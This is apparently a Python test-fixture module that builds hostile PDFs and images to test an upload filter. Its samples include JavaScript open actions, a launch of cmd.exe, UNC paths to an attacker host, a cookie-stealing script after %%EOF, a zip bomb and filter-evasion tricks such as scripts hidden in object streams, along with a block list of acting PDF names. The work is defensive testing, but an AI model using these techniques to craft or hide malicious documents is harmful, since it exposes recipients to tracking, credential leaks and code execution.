"""A corpus of hostile files, built in memory, each small: PDFs that act when opened or that
reach outside the document, PDFs and images that are damaged, encrypted or bombs, and images
that carry metadata. Every kind says what it does; approvals/tests/test_uploads.py shows what
the filter passed before, that it is refused now or what the copy people are given keeps of it.

Also: readers of what a file holds, independent of the code under test (pikepdf's object list
for a PDF, the segments and chunks of a JPEG or a PNG)."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pypdf
from PIL import ExifTags, Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pypdf.actions import JavaScript

# --- Building PDFs ---------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>"


def raw_pdf(*objects: bytes, unlisted: bytes = b"") -> bytes:
    """A well-formed PDF: objects numbered from 1 (object 1 is the catalog) and a correct
    cross-reference table; ``unlisted`` is written in the body but left out of that table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += unlisted
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def document(catalog_extra=b"", page_extra=b"", *more: bytes, unlisted=b"") -> bytes:
    return raw_pdf(CATALOG % catalog_extra, PAGES, PAGE % page_extra, *more, unlisted=unlisted)


def pypdf_document(build=None) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_object_stream(hidden: bytes, *, compress=True) -> bytes:
    """The catalog's /OpenAction is object 5, which lives in an object stream (object 4, listed by
    a cross-reference stream); compressed, ``hidden`` never appears in the raw bytes."""
    index = b"5 0 "
    packed = zlib.compress(index + hidden, 9) if compress else index + hidden
    stream_filter = b"/Filter /FlateDecode" if compress else b""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in (
        (1, CATALOG % b"/OpenAction 5 0 R"), (2, PAGES), (3, PAGE % b""),
        (4, b"<< /Type /ObjStm /N 1 /First %d %s /Length %d >>\nstream\n%s\nendstream"
            % (len(index), stream_filter, len(packed), packed)),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table), table)
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_with_script_in_object_stream() -> bytes:
    return pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"

ACTIVE_PDFS = {
    "open action runs JavaScript": lambda: document(b"/OpenAction 4 0 R", b"", JS_ACTION),
    "document-level script in /Names": lambda: document(
        b"/Names << /JavaScript 4 0 R >>", b"", b"<< /Names [(init) 5 0 R] >>", JS_ACTION),
    "catalog additional action": lambda: document(b"/AA << /WC << /S /URI /URI (https://example.org) >> >>"),
    "page additional action": lambda: document(b"", b"/AA << /O << /S /URI /URI (https://example.org) >> >>"),
    "link annotation launches a program": lambda: document(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"),
    "annotation additional action": lambda: document(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E 5 0 R >> >>", JS_ACTION),
    "rich media annotation": lambda: document(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "XFA form": lambda: document(b"/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"),
    "embedded files (written by pypdf)": lambda: pypdf_document(lambda w: w.add_attachment("run.exe", b"MZ")),
    "open action script (written by pypdf)": lambda: pypdf_document(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
    "hex-escaped names": lambda: document(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "script in an object outside the cross-reference table": lambda: document(
        unlisted=b"9 0 obj\n<< /S /J#61va#53cript /JS (app.alert(1)) >>\nendobj\n"),
    "script inside a compressed object stream": pdf_with_script_in_object_stream,
    "script inside an uncompressed object stream": lambda: pdf_with_object_stream(JS_ACTION, compress=False),
    "script in a compressed object stream after its listed objects": lambda: pdf_with_object_stream(
        b"[3 0 R /Fit]\n" + JS_ACTION),
}



def encrypted_pdf(user_password: str) -> bytes:
    def encrypt(writer):
        writer.encrypt(user_password, owner_password="owner-secret", algorithm="RC4-128")
    return pypdf_document(encrypt)


UNREADABLE_PDFS = {
    "header then garbage": b"%PDF-1.7\n" + bytes(range(256)) * 4,
    "cut in half": pypdf_document()[:200],
    "no catalog": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "no pages": raw_pdf(CATALOG % b"", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "text before the header": b"<html><body>hello</body></html>\n" + pypdf_document(),
}

UNC_PATH = rb"(\\\\files.attacker.example\\share\\plan.pdf)"  # a PDF string: \\files.attacker.example\share\plan.pdf
SCREEN = b"<< /Type /Annot /Subtype /Screen /Rect [0 0 90 90] /P 3 0 R >>"

# Actions that reach outside the document, with the action type each uses. The filter passed
# every one of them (none names active content); each is refused now.
OUTWARD_PDFS = {
    "open action opens a web address (tracking)": ("URI", lambda: document(
        b"/OpenAction << /S /URI /URI (https://tracker.example/open?who=officer) >>")),
    "open action opens a file on a UNC path (leaks Windows credentials)": ("GoToR", lambda: document(
        b"/OpenAction << /S /GoToR /F " + UNC_PATH + b" /D [0 /Fit] /NewWindow false >>")),
    "open action sends form data": ("SubmitForm", lambda: document(
        b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> /Flags 4 >>")),
    "open action imports form data from a UNC path": ("ImportData", lambda: document(
        b"/OpenAction << /S /ImportData /F " + UNC_PATH.replace(b"plan.pdf", b"data.fdf") + b" >>")),
    "open action plays a rendition fetched from the web": ("Rendition", lambda: document(
        b"/OpenAction << /S /Rendition /OP 0 /AN 4 0 R /R << /S /MR /C << /S /MCD /CT (video/mp4) "
        b"/D << /Type /Filespec /FS /URL /F (https://media.example/v.mp4) >> >> >> >>", b"/Annots [4 0 R]", SCREEN)),
    "open action plays a sound": ("Sound", lambda: document(
        b"/OpenAction << /S /Sound /Sound 4 0 R >>", b"",
        b"<< /Type /Sound /R 8000 /F (https://media.example/s.wav) /Length 0 >>\nstream\n\nendstream")),
    "open action plays a movie": ("Movie", lambda: document(
        b"/OpenAction << /S /Movie /Annotation 4 0 R /Operation /Play >>", b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Movie /Rect [0 0 90 90] /Movie << /F (https://media.example/m.mov) >> >>")),
    "link annotation opens a web address": ("URI", lambda: document(
        b"", b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://tracker.example/l) >> >>")),
    "link annotation opens a file on a UNC path": ("GoToR", lambda: document(
        b"", b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /GoToR /F " + UNC_PATH + b" /D [0 /Fit] >> >>")),
    "form with a submit button": ("SubmitForm", lambda: document(
        b"/AcroForm << /Fields [4 0 R] >>", b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [10 10 90 40] /P 3 0 R "
        b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> /Flags 4 >> >>")),
    "bookmark opens a web address": ("URI", lambda: document(
        b"/Outlines 4 0 R", b"", b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Floor plan) /Parent 4 0 R /A << /S /URI /URI (https://tracker.example/b) >> >>")),
    "a jump inside the document, then a web address (/Next)": ("URI", lambda: document(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/n) >> >>")),
    "hex-escaped action type": ("URI", lambda: document(b"/OpenAction << /S /U#52I /URI (https://tracker.example/x) >>")),
    "web address inside a compressed object stream": ("URI", lambda: pdf_with_object_stream(
        b"<< /S /URI /URI (https://tracker.example/hidden) >>")),
}

FILLED_IN_NAME = b"Wang Fang"
TRAILING_DATA = (b"\n<html><body><script>fetch('https://tracker.example/?c='+document.cookie)</script></body></html>\n"
                 b"PK\x05\x06" + b"\x00" * 18)  # and the end of an (empty) zip archive: a polyglot


def with_broken_xref(data: bytes) -> bytes:
    """The same PDF with every cross-reference offset and the startxref pointer wrong."""
    xref = data.rindex(b"\nxref\n") + 1
    table, tail = data[xref:].split(b"trailer", 1)
    shifted = b"\n".join(b"%010d%s" % (int(row[:10]) + 7, row[10:]) if row.endswith(b" n ") else row
                         for row in table.split(b"\n"))
    start = tail.index(b"startxref\n") + len(b"startxref\n")
    return data[:xref] + shifted + b"trailer" + tail[:start] + b"1" + tail[start:]


# Accepted (nothing in them reaches outside), yet nothing in the copy people get acts either.
DISARMED_PDFS = {
    "link to another page": lambda: document(
        b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "open action prints the document": lambda: document(b"/OpenAction << /S /Named /N /Print >>"),
    "a form filled in": lambda: document(
        b"/AcroForm << /Fields [4 0 R] /NeedAppearances true /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (" + FILLED_IN_NAME + b") /Rect [10 10 190 40] "
        b"/P 3 0 R /DA (/Helv 12 Tf 0 g) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
    "data after %%EOF": lambda: document() + TRAILING_DATA,
    "broken cross-reference table": lambda: with_broken_xref(document()),
}

# What no copy people open may contain: keys and names that act, fetch, embed or make a form.
ACTING_NAMES = frozenset({
    "/OpenAction", "/AA", "/A", "/JavaScript", "/JS", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment",
    "/AcroForm", "/XFA", "/Annots", "/Outlines", "/Launch", "/URI", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData",
    "/Rendition", "/Sound", "/Movie", "/RichMedia", "/Next", "/Named", "/GoTo", "/ResetForm",
})


def pdf_names(data: bytes) -> set[str]:
    """Every dictionary key and every name value in every object of the file, as qpdf reads it
    (objects in object streams included, nested values followed)."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack, seen = [pdf.trailer, *pdf.objects], set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                for key in obj.keys():
                    found.add(key)
                    stack.append(obj.get(key))
            elif isinstance(obj, pikepdf.Array):
                stack.extend(obj)
            elif isinstance(obj, pikepdf.Name):
                found.add(str(obj))
    return found


def pdf_warnings(data: bytes) -> list[str]:
    """What qpdf had to repair to read the file."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        len(pdf.pages)
        return pdf.get_warnings()


def pdf_page_texts(data: bytes) -> bytes:
    """The decoded content of every page and of the forms (XObjects) it draws."""
    out = b""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            out += page.obj.Contents.read_bytes() if isinstance(page.obj.get("/Contents"), pikepdf.Stream) else b"".join(
                stream.read_bytes() for stream in page.obj.get("/Contents", []))
            for xobject in page.obj.Resources.get("/XObject", {}).values():
                out += xobject.read_bytes()
                for inner in xobject.get("/Resources", {}).get("/XObject", {}).values():
                    out += inner.read_bytes()
    return out


# --- Building images -------------------------------------------------------------------------------


def image_bytes(fmt="PNG", size=(20, 10)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares width x height; its pixel data is a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG with its frame header (SOF0) rewritten to declare width x height."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5: sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def truncated_jpeg() -> bytes:
    """A JPEG whose image data stops short: the header is whole, only the pixels are missing."""
    image = Image.new("RGB", (256, 192))
    image.putdata([(x, y, (x * y) % 256) for y in range(192) for x in range(256)])
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=95)
    data = buffer.getvalue()
    return data[: data.index(b"\xff\xda") + (len(data) - data.index(b"\xff\xda")) // 2]


def largest_image() -> bytes:
    """A real PNG of the largest size accepted, 10000 x 4000 pixels (40 megapixels), in a few
    kilobytes: one bit per pixel, all white."""
    buffer = io.BytesIO()
    Image.new("1", (10_000, 4_000), 1).save(buffer, "PNG")
    return buffer.getvalue()


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plan.pdf", b"\0" * 20_000_000)
    return buffer.getvalue()


def corrupt(data: bytes, offset: int) -> bytes:
    return data[:offset] + bytes([data[offset] ^ 0xFF]) + data[offset + 1:]


# Where a photo was taken, and what else a camera or an editor writes into a file.
GPS = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (39.0, 54.0, 27.0),
       ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (116.0, 23.0, 29.0)}
CAMERA_MODEL = "Citizen Phone 12"
COMMENT = b"taken at home, 12 Harbour Road"
XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Wang Fang"/></rdf:RDF></x:xmpmeta>')
# What a JPEG carries of them, byte for byte (a PNG's are its chunks).
JPEG_METADATA = (CAMERA_MODEL.encode(), b"Wang Fang", COMMENT, b"Exif\x00\x00", b"ICC_PROFILE", b"adobe:ns:meta")


def exif_with_gps(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = CAMERA_MODEL
    exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS)
    return exif.tobytes()


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def photo(fmt="JPEG", size=(64, 48), orientation=1) -> bytes:
    """A photo with GPS position, camera model, orientation, an ICC profile, XMP and a comment
    (PNG: the same in eXIf, iCCP, iTXt and tEXt/zTXt chunks)."""
    image = Image.new("RGB", size)
    image.putdata([(x * 4 % 256, y * 5 % 256, 90) for y in range(size[1]) for x in range(size[0])])
    buffer = io.BytesIO()
    if fmt == "JPEG":
        image.save(buffer, "JPEG", exif=exif_with_gps(orientation), icc_profile=srgb_profile(), xmp=XMP,
                   comment=COMMENT, quality=95)
    else:
        info = PngInfo()
        info.add_text("Comment", COMMENT.decode())
        info.add_text("Author", "Wang Fang", zip=True)
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        image.save(buffer, "PNG", exif=exif_with_gps(orientation), icc_profile=srgb_profile(), pnginfo=info)
    return buffer.getvalue()


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG's segments, from its start to the start of its image data."""
    markers, position = [], 2
    assert data[:2] == b"\xff\xd8"
    while True:
        marker, length = data[position + 1], struct.unpack(">H", data[position + 2: position + 4])[0]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            return markers
        position += 2 + length


def png_chunk_types(data: bytes) -> list[bytes]:
    kinds, position = [], 8
    while position < len(data):
        (length,) = struct.unpack(">I", data[position: position + 4])
        kinds.append(data[position + 4: position + 8])
        position += 12 + length
    return kinds
